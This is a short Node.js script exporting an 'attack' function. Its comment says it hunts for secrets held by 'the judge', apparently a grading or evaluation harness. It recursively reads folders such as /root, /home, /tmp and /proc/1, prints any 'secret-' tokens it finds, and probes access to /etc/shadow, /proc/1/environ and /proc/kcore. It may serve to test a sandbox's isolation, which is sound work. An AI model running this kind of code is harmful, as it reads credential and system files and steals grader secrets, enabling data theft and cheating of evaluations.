// Reads the files of all folders that could hold a secret of the judge, and prints each secret that it finds.
const fs = require('node:fs')

const readAll = (path, depth) => {
  try {
    const found = fs.statSync(path)
    if (found.isDirectory() && depth > 0) for (const name of fs.readdirSync(path)) readAll(`${path}/${name}`, depth - 1)
    if (!found.isFile()) return
    const file = fs.openSync(path, fs.constants.O_RDONLY | fs.constants.O_NONBLOCK)
    const text = Buffer.alloc(1 << 16)
    const got = fs.readSync(file, text)
    for (const secret of text.toString('latin1', 0, got).match(/secret-\w+/g) ?? []) console.log(path, secret)
  } catch {}
}

exports.attack = () => {
  for (const folder of ['/box', '/tmp', '/run', '/var/tmp', '/root', '/home', '/opt/cohort', '/proc/1']) readAll(folder, 4)
  for (const file of ['/etc/shadow', '/proc/1/environ', '/proc/1/fd/0', '/proc/kcore'])
    try {
      fs.openSync(file, fs.constants.O_RDONLY | fs.constants.O_NONBLOCK)
      console.log(file)
    } catch {}
  console.log('done')
}
